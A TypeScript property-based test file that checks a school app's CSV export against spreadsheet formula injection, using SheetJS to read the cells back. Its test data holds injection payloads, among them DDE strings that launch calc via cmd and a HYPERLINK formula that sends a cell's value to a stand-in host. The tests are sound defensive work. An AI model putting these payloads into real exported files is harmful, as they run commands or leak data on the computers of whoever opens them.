import { read, type CellObject } from '@e965/xlsx';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { instantOf } from '@kernel/shared/time';
import { BOARD } from '@modules/overview/shared/names';
import { sentencesOf } from '@modules/overview/shared/sentences';
import { weekOf } from '@modules/overview/shared/week';
import { csvCell, weekCsv } from '@modules/overview/shared/week-csv';

const MON = '2026-11-23';
const RUNS = process.env['LONG'] === '1' ? 50_000 : 5_000;

/** What a cell must not begin with for any program, blanks and invisible characters before it or not. */
const FORMULA = /^[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@＝＋－＠]/u;
const CONTROL = /[\0-\x08\x0b\x0c\x0e-\x1f\x7f]/g;

const LEADS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200b=',
  '\ufeff=',
  '\u3000=',
  '\u00a0+',
  ' =',
  '  @',
  '"=',
  "'=",
  '\u0001=',
  '\u202e=',
  'sep=',
  '',
  '\t=',
  '\r\n=',
  ';=',
  ',=',
  '|=',
  '""=',
];
const BODIES = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://x.test?"&A1,"点我")',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C calc'!A0",
  '七(3)班',
  '',
  '\r\n=1+1',
  '";=1+1;"',
  '\t=1',
  ',=1,',
  ';',
];
const payload = fc
  .oneof(
    fc.tuple(fc.constantFrom(...LEADS), fc.constantFrom(...BODIES)).map(([a, b]) => a + b),
    fc.tuple(fc.constantFrom(...LEADS), fc.string({ unit: 'binary' })).map(([a, b]) => a + b),
    fc.array(fc.constantFrom(...LEADS, ...BODIES), { maxLength: 5 }).map((parts) => parts.join('')),
  )
  .filter((text) => text.isWellFormed());

/** The cells of a text as another program reads it (SheetJS), row by row; it guesses separators as spreadsheets do. */
function readBack(text: string, raw: boolean): (CellObject | undefined)[][] {
  const book = read(text, { type: 'string', raw, cellFormula: true, dense: true });
  const sheet = book.Sheets[book.SheetNames[0]!] as unknown as { '!data': (CellObject | undefined)[][] };
  return sheet['!data'];
}

describe('exported tables (E1)', () => {
  test('no text becomes a formula in any cell, and every text is read back as it was', () => {
    fc.assert(
      fc.property(fc.array(payload, { minLength: 1, maxLength: 6 }), (texts) => {
        const line = `班级,${texts.map(csvCell).join(',')},末`;
        const [formulas] = readBack(`${line}\r\n`, false);
        for (const cell of formulas!) expect(cell?.f).toBeUndefined();
        const [cells] = readBack(`${line}\r\n`, true);
        const values = Array.from(cells!, (cell) => String(cell?.v ?? ''));
        expect(values).toHaveLength(texts.length + 2);
        for (const [i, text] of texts.entries()) {
          const value = values[i + 1]!;
          expect(FORMULA.test(value)).toBe(false);
          expect([text.replace(CONTROL, ''), `'${text.replace(CONTROL, '')}`]).toContain(value);
        }
      }),
      { numRuns: RUNS },
    );
  });

  test('nor in the week as it is exported, whoever named the classes', () => {
    fc.assert(
      fc.property(fc.array(payload, { minLength: 1, maxLength: 4 }), payload, (names, title) => {
        const now = instantOf(MON, '10:00', 'Asia/Shanghai');
        const classes = names.map((name, i) => {
          const id = `c-2026-${i + 1}`;
          return { id, name, grade: 7, number: i + 1, scope: `school/g7/${id}` };
        });
        const week = weekOf({
          columns: [{ day: MON, kind: 'school', name: '', deadline: now - 3_600_000 }],
          classes,
          rows: classes.map((c) => ({ name: BOARD.expected, scope: c.scope, day: MON, value: 1 })),
          scope: 'school',
          moment: { now, today: MON, asOf: now },
        });
        const rows = readBack(weekCsv(week, sentencesOf(week.totals), [title]).slice(1), false);
        for (const cell of rows.flat()) {
          expect(cell?.f).toBeUndefined();
          expect(FORMULA.test(String(cell?.v ?? ''))).toBe(false);
        }
      }),
      { numRuns: RUNS / 10 },
    );
  });

  test('the second reader does see a formula where there is one', () => {
    expect(readBack('班级,=1+1\r\n', false)[0]![1]?.f).toBe('1+1');
  });
});
